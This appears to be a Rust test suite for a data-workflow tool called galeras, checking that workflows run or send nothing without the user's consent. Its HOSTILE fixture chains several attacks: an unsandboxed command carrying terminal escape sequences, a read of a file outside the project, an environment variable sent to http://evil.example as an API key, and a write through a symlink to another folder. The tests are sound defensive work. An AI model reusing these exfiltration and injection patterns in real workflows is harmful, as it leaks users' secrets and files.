//! The limits of a stranger's workflow: nothing when it is looked at, nothing unasked when it is
//! run, what was allowed and no more, and what was agreed to is not asked again.

use std::io::Write as _;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::Value;

use crate::harness::{Outcome, Project, Running, files_below, says, text};
use crate::repository::{Repository, at, day};

/// It runs a program, sends a variable to a foreign host, reads and writes outside of its folder.
/// The names that it shows would steer a terminal.
const HOSTILE: &str = "galeras: 1
name: \"kind\\e[2J\"
steps:
  hit: { op: exec, with: { command: \"touch hit #\\e[31m\", output: { id: utf8! }, sandbox: none } }
  stolen: { op: read, with: { path: ../outside.csv } }
  prompts: { op: prompt, from: stolen, with: { treatments: { all: '{{ id }}' } } }
  sent:
    op: generate
    from: prompts
    with: { model: m, base_url: 'http://evil.example/v1', api_key_env: HOME, tries: 1 }
outputs:
  left: { from: stolen, path: out/left.csv }
";

/// A server that counts who connects, and answers nothing of use.
struct Listener {
    url: String,
    asked: Arc<AtomicUsize>,
}

impl Listener {
    fn start() -> Self {
        let asked = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&asked);
        let url = galeras_test_servers::listen(move |_, mut stream| {
            counted.fetch_add(1, Ordering::SeqCst);
            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
            let _ = std::io::Read::read(&mut stream, &mut [0; 4096]);
            let answer = "HTTP/1.1 400 Bad Request\r\ncontent-length: 2\r\n\r\nno";
            let _ = stream.write_all(answer.as_bytes());
        });
        Self { url, asked }
    }

    fn asked(&self) -> usize {
        self.asked.load(Ordering::SeqCst)
    }
}

/// The project with the hostile workflow and what it is after; all of its requests would go to
/// the listener.
fn hostile() -> (Project, Listener) {
    let project = Project::new(HOSTILE).with("../outside.csv", "id\nsecret\n");
    std::fs::create_dir(project.path("../elsewhere")).unwrap();
    std::os::unix::fs::symlink(project.path("../elsewhere"), project.path("out")).unwrap();
    (project, Listener::start())
}

/// The program with just these arguments; its requests go to the listener.
fn command(project: &Project, listener: &Listener, args: &[&str]) -> Command {
    let mut command = project.command_as_typed(args);
    command.env("HTTP_PROXY", &listener.url).env("http_proxy", &listener.url);
    command
}

fn run(project: &Project, listener: &Listener, args: &[&str]) -> Outcome {
    Running::start(command(project, listener, args)).finish()
}

#[track_caller]
fn untouched(project: &Project, listener: &Listener, outcome: &Outcome) {
    assert!(!project.path("hit").exists(), "{outcome}");
    assert_eq!(listener.asked(), 0, "{outcome}");
    assert!(files_below(&project.path("../elsewhere")).is_empty(), "{outcome}");
    for text in [&outcome.stdout, &outcome.stderr] {
        assert!(!text.contains('\x1b'), "{outcome}");
    }
    assert!(outcome.took < Duration::from_secs(10), "{:?}", outcome.took);
}

/// The ways to look at the workflow.
const LOOKS: [&[&str]; 7] = [
    &["check", "w.yaml"],
    &["plan", "w.yaml"],
    &["explain", "w.yaml", "hit"],
    &["explain", "w.yaml", "sent"],
    &["graph", "w.yaml"],
    &["graph", "w.yaml", "--format", "svg"],
    &["report", "w.yaml"],
];

#[test]
fn looking_at_a_workflow_runs_and_sends_nothing() {
    let (project, listener) = hostile();
    for args in LOOKS {
        let outcome = run(&project, &listener, args).exits(0);
        untouched(&project, &listener, &outcome);
    }
    // The system calls agree: no program but our own, no connection to anywhere.
    let works = Command::new("strace").args(["-o", "/dev/null", "true"]).output();
    if !works.is_ok_and(|output| output.status.success()) {
        eprintln!("strace does not work here; nothing was tested");
        return;
    }
    let (project, listener) = hostile();
    for args in LOOKS {
        let program = command(&project, &listener, args);
        let mut strace = Command::new("strace");
        strace.args(["-f", "-qq", "-e", "trace=network,execve,execveat", "-o", "trace"]);
        strace.arg(program.get_program()).args(program.get_args());
        strace.env_clear().current_dir(project.root()).stdin(Stdio::null());
        for (name, value) in program.get_envs() {
            strace.env(name, value.unwrap());
        }
        let outcome = Running::start(strace).finish().exits(0);
        let trace = project.read("trace");
        assert_eq!(trace.matches("execve").count(), 1, "{args:?}\n{trace}");
        assert!(!trace.contains("AF_INET"), "{args:?}\n{trace}");
        untouched(&project, &listener, &outcome);
    }
}

/// Neither a server that a run would ask unasked, nor one of this machine.
#[test]
fn check_sends_nothing() {
    let listener = Listener::start();
    for url in ["https://example.org/x.csv", &format!("{}/x.csv", listener.url)] {
        let steps = format!(
            "  data: {{ op: read, with: {{ url: '{url}' }} }}
  few: {{ op: sample, from: data, with: {{ n: 1, seed: 1 }} }}
"
        );
        let project = Project::steps(&steps);
        let checked = run(&project, &listener, &["check", "w.yaml", "--format", "json"]).exits(0);
        let found = checked.events("diagnostic");
        let [warning] = &found[..] else { panic!("{checked}") };
        assert_eq!((text(warning, "severity"), text(warning, "code")), ("warning", "not-allowed"));
        says(text(warning, "message"), &["`check` sends nothing"]);
        assert_eq!(listener.asked(), 0, "{checked}");
        // Other mistakes are found all the same.
        project.change("steps:\n", "steps:\n  other: { op: nothing }\n");
        let checked = run(&project, &listener, &["check", "w.yaml", "--format", "json"]).exits(2);
        assert!(checked.events("diagnostic").iter().any(|d| d["severity"] == "error"), "{checked}");
        assert_eq!(listener.asked(), 0, "{checked}");
    }
}

/// The flags of what the diagnostics ask for, in their order.
#[track_caller]
pub fn flags(outcome: &Outcome) -> Vec<String> {
    let diagnostics = outcome.events("diagnostic");
    assert!(diagnostics.iter().all(|d| d["code"] == "not-allowed"), "{outcome}");
    let flag =
        |d: &Value| text(d, "help").strip_prefix("allow it with --allow ").unwrap().to_owned();
    diagnostics.iter().map(flag).collect()
}

#[test]
fn a_run_stops_before_anything_and_names_all_of_it() {
    let (project, listener) = hostile();
    let json = run(&project, &listener, &["run", "w.yaml", "--format", "json"]).exits(2);
    untouched(&project, &listener, &json);
    assert!(project.stored_nothing());
    assert_eq!(json.finished()["status"], "invalid");
    let above = project.path("..").canonicalize().unwrap();
    let (outside, elsewhere) = (above.join("outside.csv"), above.join("elsewhere/left.csv"));
    let wanted = [
        "exec".to_string(),
        "unsandboxed".to_string(),
        format!("read:{}", outside.display()),
        "env:HOME=http://evil.example".to_string(),
        format!("send:{}=http://evil.example", outside.display()),
        format!("write:{}", elsewhere.display()),
    ];
    assert_eq!(flags(&json), wanted);
    let places = ["4:37", "4:90", "5:37", "10:72", "10:72", "12:31"];
    assert_eq!(json.diagnostics(), places.map(|place| format!("not-allowed w.yaml:{place}")));
    for (diagnostic, words) in json.events("diagnostic").iter().zip([
        &["step `hit` runs a program", "touch hit #", "u{1b}[31m"][..],
        &["step `hit` runs a program without a sandbox", "touch hit #", "u{1b}[31m"],
        &["step `stolen` reads", "outside.csv"],
        &["step `sent` sends", "HOME", "http://evil.example", "unencrypted"],
        &["step `sent` sends data from", "outside.csv", "to http://evil.example"],
        &["output `left` writes", "elsewhere/left.csv"],
    ]) {
        says(&diagnostic["message"].to_string(), words);
    }
    let human = run(&project, &listener, &["run", "w.yaml"]).exits(2);
    untouched(&project, &listener, &human);
    let line = human.stderr.lines().last().unwrap().trim();
    let mut sorted = wanted.clone();
    sorted.sort();
    assert_eq!(line, format!("galeras run w.yaml --allow {}", sorted.join(",")), "{human}");
    // A plan reports it before.
    let plan = run(&project, &listener, &["plan", "w.yaml", "--format", "json"]).exits(0);
    let asks = plan.events("plan")[0]["asks"].as_array().unwrap().clone();
    assert_eq!(asks.iter().map(|ask| text(ask, "allow")).collect::<Vec<_>>(), wanted);
    let plan = run(&project, &listener, &["plan", "w.yaml"]).exits(0);
    untouched(&project, &listener, &plan);
    let program = "step `hit` runs a program: `touch hit #\\u{1b}[31m`";
    plan.prints(&["a run would ask for your consent to this:", program]);
    // The workflow asks for the version of the model, and its key goes there.
    let lock = run(&project, &listener, &["lock", "w.yaml"]).exits(2);
    untouched(&project, &listener, &lock);
    lock.reports(&["galeras lock w.yaml --allow env:HOME=http://evil.example"]);
    assert!(!project.path("galeras.lock").exists());
}

#[test]
fn what_is_allowed_is_done_and_no_more() {
    let (project, listener) = hostile();
    let above = project.path("..").canonicalize().unwrap();
    let read = format!("read:{}", above.join("outside.csv").display());
    let write = format!("write:{}", above.join("elsewhere").display());
    let run = |more: &[&str]| {
        run(&project, &listener, &[&["run", "w.yaml", "--format", "json"], more].concat())
    };
    // Relative paths are those of the current folder.
    let some =
        run(&["--allow", "exec,unsandboxed,read:../outside.csv", "--allow", &write]).exits(2);
    let send = format!("send:{}=http://evil.example", above.join("outside.csv").display());
    assert_eq!(flags(&some), ["env:HOME=http://evil.example", &send]);
    for wrong in [
        "env:HOME=evil.example",
        "env:HOME=https://evil.example",
        "env:HOME=http://evil.example:8080",
        "env:PATH=http://evil.example",
        "host:http://evil.example",
    ] {
        let outcome =
            run(&["--allow", &format!("exec,unsandboxed,{read},{write},{send},{wrong}")]).exits(2);
        assert_eq!(flags(&outcome), ["env:HOME=http://evil.example"], "{wrong}");
    }
    // Consent to read the file and to send something else to that server is not consent to both.
    for wrong in ["*=evil.example", "../outside.csv=evil.example", "w.yaml=http://evil.example"] {
        let others = "exec,unsandboxed,env:HOME=http://evil.example,host:http://evil.example";
        let allowed = format!("{others},{read},{write},send:{wrong}");
        let outcome = run(&["--allow", &allowed]).exits(2);
        assert_eq!(flags(&outcome), [send.as_str()], "{wrong}");
    }
    assert_eq!(listener.asked(), 0);
    // Only what is wanted counts.
    let stolen = run(&["--select", "stolen", "--allow", &format!("{read},{write}")]).exits(0);
    assert_eq!(stolen.statuses(), "stolen=ran");
    assert!(!project.path("hit").exists());
    // All of it: the program runs (and prints no row), the variable is sent.
    let all = format!("exec,unsandboxed,{write},{send},env:HOME=http://evil.example");
    let all = run(&["--keep-going", "--allow", &all]);
    assert!(project.path("hit").exists() && listener.asked() > 0, "{all}");
    assert_eq!(all.status("stolen"), "hit", "a stored result is not read again: {all}");
    std::fs::remove_file(project.path("hit")).unwrap();
    std::fs::remove_dir_all(project.path("cache")).unwrap();
    let all = run(&["--keep-going", "--allow-all", "--overwrite"]);
    assert!(project.path("hit").exists(), "{all}");
    assert!(project.path("../elsewhere/left.csv").exists(), "{all}");
    for wrong in ["execute", "env:HOME", "read:", "net", "exec,,", "host:", "send:x"] {
        run(&["--allow", wrong]).exits(2).reports(&["--allow"]);
    }
}

/// A workflow whose only step runs `command`, which reads `data`.
fn program(command: &str) -> String {
    format!(
        "galeras: 1
steps:
  rows:
    op: exec
    with:
      command: |
        {command}
      files: [data]
      output: {{ id: utf8! }}
      sandbox: none
"
    )
}

/// `run w.yaml` on a terminal on which `typed` is typed.
#[track_caller]
fn on_a_terminal(project: &Project, typed: &str) -> Outcome {
    let mut script = project.shell("exec script -qec \"$GALERAS run w.yaml\" /dev/null");
    script.env("TERM", "dumb").stdin(Stdio::piped());
    let mut child = script.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(typed.as_bytes()).unwrap();
    // The keyboard stays until the program has ended.
    let output = child.wait_with_output().unwrap();
    drop(stdin);
    let [stdout, stderr] =
        [output.stdout, output.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
    Outcome { code: output.status.code(), stdout, stderr, took: Duration::ZERO }
}

/// `run w.yaml` without a terminal and without flags.
#[track_caller]
fn unattended(project: &Project) -> Outcome {
    Running::start(project.command_as_typed(&["run", "w.yaml", "--format", "json"])).finish()
}

const ROW: &str = "cat data > seen; printf '{\"id\":\"a\"}'";

#[test]
fn consent_is_asked_once_in_full_and_remembered() {
    let project = Project::new(&program(&format!("{ROW}\n        : {}", "long ".repeat(200))));
    project.write("data", "1");
    for no in ["n\n", "\n", "maybe\n", "no\n"] {
        on_a_terminal(&project, no).exits(2).prints(&["nothing was run"]);
        assert!(!project.path("seen").exists());
    }
    let agreed = on_a_terminal(&project, "y\n").exits(0);
    let shown = &agreed.stdout;
    says(
        shown,
        &[
            "w.yaml",
            "runs a program in",
            "runs a program without a sandbox",
            &ROW[..10],
            "(step `rows`, w.yaml:7:9)",
            "file data",
        ],
    );
    assert_eq!(shown.matches("long").count(), 400, "all of it is shown");
    assert_eq!(project.read("seen"), "1");
    // It is remembered where only the user may write, and not in the store.
    let memory = project.path("../home/.local/share/galeras/trust");
    assert_eq!(files_below(&memory).len(), 2);
    let mode = std::os::unix::fs::PermissionsExt::mode(&memory.metadata().unwrap().permissions());
    assert_eq!(mode & 0o777, 0o700);
    // A run of hits asks for nothing anyway, so it has to compute.
    std::fs::remove_dir_all(project.path("cache")).unwrap();
    assert_eq!(unattended(&project).exits(0).statuses(), "rows=ran");
    std::fs::remove_dir_all(project.path("cache")).unwrap();
    let again = on_a_terminal(&project, "").exits(0);
    assert!(!again.stdout.contains("[y/N]"), "{again}");
}

#[test]
fn what_has_changed_is_asked_again() {
    let project = Project::new(&program(ROW)).with("data", "1");
    unattended(&project).exits(2);
    on_a_terminal(&project, "yes\n").exits(0);
    let both = ["exec", "unsandboxed"];
    let asks = |wanted: &[&str], text: &str| {
        assert_eq!(flags(&unattended(&project).exits(2)), wanted, "{text}");
    };
    project.write("data", "2");
    asks(&["exec"], "a file of the program has changed");
    project.write("data", "1");
    unattended(&project).exits(0).all_hit();
    project.change("printf", "echo; printf");
    asks(&both, "the command has changed");
    project.write("w.yaml", program(ROW));
    unattended(&project).exits(0).all_hit();
    std::fs::remove_dir_all(project.path("cache")).unwrap();
    // The same text in another place is another workflow.
    project.write("copy/w.yaml", program(ROW));
    project.write("copy/data", "1");
    let args = ["run", "copy/w.yaml", "--format", "json"];
    assert_eq!(flags(&Running::start(project.command_as_typed(&args)).finish().exits(2)), both);
    // Consent can be taken back.
    unattended(&project).exits(0);
    std::fs::remove_dir_all(project.path("cache")).unwrap();
    std::fs::remove_dir_all(project.path("../home/.local/share/galeras/trust")).unwrap();
    asks(&both, "it was taken back");
    // A stored result needs no consent.
    let project = Project::new(&program(ROW)).with("data", "1").ran();
    unattended(&project).exits(0).all_hit();
    let args = ["run", "w.yaml", "--format", "json", "--force", "rows"];
    assert_eq!(flags(&Running::start(project.command_as_typed(&args)).finish().exits(2)), both);
}

#[test]
fn servers_of_the_local_network_and_without_encryption_are_not_asked_unasked() {
    let listener = Listener::start();
    for (url, host) in [
        ("http://evil.example/data.csv", "http://evil.example"),
        ("https://10.0.0.1/data.csv", "10.0.0.1"),
        ("http://gpu/x.csv", "http://gpu"),
    ] {
        let project =
            Project::steps(&format!("  data: {{ op: read, with: {{ url: '{url}' }} }}\n"));
        let typed = |verb: &str, more: &[&str]| {
            let args = [&[verb, "w.yaml", "--format", "json"], more].concat();
            let mut program = command(&project, &listener, &args);
            program.env("HTTPS_PROXY", &listener.url).env("https_proxy", &listener.url);
            Running::start(program).finish()
        };
        for verb in ["run", "plan"] {
            assert_eq!(flags(&typed(verb, &[]).exits(2)), [format!("host:{host}")], "{verb}");
        }
        assert_eq!(listener.asked(), 0);
        // Once it is allowed, the server is asked; it does not have the file.
        let outcome = typed("plan", &["--allow", &format!("host:{host}")]).exits(2);
        assert_eq!(outcome.events("diagnostic")[0]["code"], "unreachable-url", "{outcome}");
        assert!(listener.asked.swap(0, Ordering::SeqCst) > 0);
    }
    // A table may name any folder as a repository: it is not mined unasked.
    let steps = "  repos: { op: read, with: { path: repos.csv, key: [repo] } }
  mined: { op: mine, from: repos, with: { since: '2022-01-01', until: '2023-01-01' } }
";
    let project = Project::steps(steps);
    let repository = Repository::bare(project.path("../private"));
    let head = repository.commit(at(day(3)).write("a.py", "def f():\n    return 1\n"));
    let row = |path: &str| format!("repo,clone_url,head_sha\nr,{path},{head}\n");
    project.write("repos.csv", row("../private"));
    let refused = unattended(&project).exits(0);
    assert!(project.rows("mined").is_empty(), "{refused}");
    says(text(&project.only("mined.rejects"), "reason"), &["private", "--allow read:"]);
    let allowed = project.run_json(&["--allow", "read:../private"]).exits(0);
    assert_eq!(project.rows("mined").len(), 1, "{allowed}");
}

/// Steps that send the rows of `rows` to a model.
fn answers(base_url: &str) -> String {
    format!(
        "  prompts: {{ op: prompt, from: rows, with: {{ treatments: {{ all: '{{{{ repo }}}}' }} }} }}
  answers:
    op: generate
    from: prompts
    with: {{ model: m, base_url: '{base_url}', api_key_env: '', tries: 1 }}
"
    )
}

const PUBLIC: &str = "https://models.example.org/v1";

/// Reading the current folder and asking public servers are free, but not one after the other.
#[test]
fn data_that_did_not_come_with_the_workflow_is_not_sent_unasked() {
    let project = Project::empty();
    for file in ["mine.csv", "flows/own.csv", "../outside.csv"] {
        project.write(file, "repo,clone_url,head_sha\nr,https://github.com/a/b,c\n");
    }
    Repository::bare(project.path("clone")).commit(at(day(3)).write("a.py", "def f(): pass\n"));
    let table = galeras_test_servers::listen(|_, mut stream| {
        let _ = std::io::Read::read(&mut stream, &mut [0; 4096]);
        let head = "HTTP/1.1 200 OK\r\ncontent-length: 7\r\nconnection: close\r\n\r\n";
        let _ = stream.write_all(format!("{head}repo\na\n").as_bytes());
    });
    let read = |path: &str| format!("  rows: {{ op: read, with: {{ {path} }} }}\n");
    let mined = |from: &str| {
        let window = "since: '2022-01-01', until: '2023-01-01'";
        format!("{from}  rows: {{ op: mine, from: repos, with: {{ {window} }} }}\n")
    };
    let repos = |step: &str| format!("  repos: {{ {step} }}\n");
    let listed = repos("op: query, with: { repos: [../clone] }");
    let root = project.root().canonicalize().unwrap();
    let sends = |from: &str, to: &str| vec![format!("send:{}={to}", root.join(from).display())];
    let url = format!("url: '{table}/x.csv'");
    let searched = |token: &str| {
        mined(&repos(&format!("op: query, with: {{ github: x, limit: 3, token_env: {token} }}")))
    };
    let token = || vec!["env:HOME=api.github.com".to_string()];
    let tokens_data = "send:https://api.github.com=models.example.org".to_string();
    let host = "models.example.org";
    let none = Vec::<String>::new;
    let typed: &[&str] = &[];
    for (steps, more, wanted) in [
        (read("path: own.csv") + &answers(PUBLIC), typed, none()),
        (read("path: ../mine.csv"), typed, none()),
        (read("path: ../mine.csv") + &answers("http://localhost:9/v1"), typed, none()),
        (read("path: ../mine.csv") + &answers(PUBLIC), typed, sends("mine.csv", host)),
        (read("path: '${{ params.data }}'") + &answers(PUBLIC), typed, none()),
        (
            read("path: '${{ params.data }}'") + &answers(PUBLIC),
            &["--set", "data=mine.csv"][..],
            sends("mine.csv", host),
        ),
        (
            read("path: ../mine.csv") + &answers(PUBLIC),
            &["--allow", "send:mine.csv=models.example.org"][..],
            none(),
        ),
        (
            read("path: ../mine.csv") + &answers(PUBLIC),
            &["--allow", "host:models.example.org"][..],
            sends("mine.csv", host),
        ),
        (read(&url) + &answers(PUBLIC), typed, vec![format!("send:{table}={host}")]),
        // Rows of the user's table may name any server. Those of a list name addresses only.
        (mined(&repos("op: read, with: { path: ../mine.csv }")), typed, sends("mine.csv", "*")),
        (mined(&listed), typed, none()),
        (mined(&listed) + &answers(PUBLIC), typed, sends("clone", host)),
        // A search with a token may list what only its owner sees.
        (searched("HOME"), typed, token()),
        (searched("HOME") + &answers(PUBLIC), typed, [token(), vec![tokens_data]].concat()),
        (searched("UNSET") + &answers(PUBLIC), typed, none()),
    ] {
        let params = "params: { data: { type: path, default: own.csv } }";
        project.write("flows/w.yaml", format!("galeras: 1\n{params}\nsteps:\n{steps}"));
        let args = [&["plan", "flows/w.yaml", "--format", "json"], more].concat();
        let plan = Running::start(project.command_as_typed(&args)).finish().exits(0);
        let asks = plan.events("plan")[0]["asks"].as_array().unwrap().clone();
        let asks: Vec<&str> = asks.iter().map(|ask| text(ask, "allow")).collect();
        assert_eq!(asks, wanted, "{steps}{plan}");
    }
}

/// If only a row names the data, the row is rejected.
#[test]
fn a_repository_that_a_row_names_is_not_sent_unasked() {
    let repos = "  repos: { op: read, with: { path: repos.csv, key: [repo] } }
  rows: { op: mine, from: repos, with: { since: '2022-01-01', until: '2023-01-01' } }
";
    let project = Project::steps(&format!("{repos}{}", answers(PUBLIC)));
    let repository = Repository::bare(project.path("../private"));
    let head = repository.commit(at(day(3)).write("a.py", "def f():\n    return 1\n"));
    project.write("repos.csv", format!("repo,clone_url,head_sha\nr,../private,{head}\n"));
    let run = |allow: &str| project.run_json(&["--select", "rows", "--allow", allow]).exits(0);
    let refused = run("read:../private");
    assert!(project.rows("rows").is_empty(), "{refused}");
    let reason = project.only("rows.rejects");
    says(
        text(&reason, "reason"),
        &["sends data from", "private", "--allow send:", "=models.example.org"],
    );
    let allowed = run("read:../private,send:../private=models.example.org");
    assert_eq!(project.rows("rows").len(), 1, "{allowed}");
}

/// Their maker decided what a run shows.
#[test]
fn results_that_came_with_a_clone_are_a_warning() {
    let rows = "  rows: { op: read, with: { path: rows.csv } }\n";
    let project = Project::steps(rows).with("rows.csv", "id\na\n").with("cache/README.md", "x");
    let run = |more: &[&str]| {
        let done = project.run(&[&["run", "w.yaml"], more].concat()).exits(0);
        done.stderr.contains("were not computed by you on this machine")
    };
    assert!(!run(&[]) && !run(&[]), "they are the user's own");
    let mut copy = Command::new("cp");
    let copied = copy.args(["-r", "cache", "clone"]).current_dir(project.root()).status();
    assert!(copied.unwrap().success());
    let clone = ["--cache", "clone"];
    assert!(run(&clone) && run(&clone));
    let shown = project.run(&["show", "w.yaml", "rows", "--cache", "clone"]).exits(0);
    shown.reports(&["were not computed by you on this machine", "--trust-store"]);
    assert!(!run(&["--cache", "clone", "--trust-store"]) && !run(&clone));
    // Another folder at the same place is another store.
    std::fs::rename(project.path("clone"), project.path("old")).unwrap();
    assert!(!run(&clone), "a new one");
    std::fs::remove_dir_all(project.path("clone")).unwrap();
    std::fs::rename(project.path("old"), project.path("older")).unwrap();
    assert!(run(&["--cache", "older"]));
}
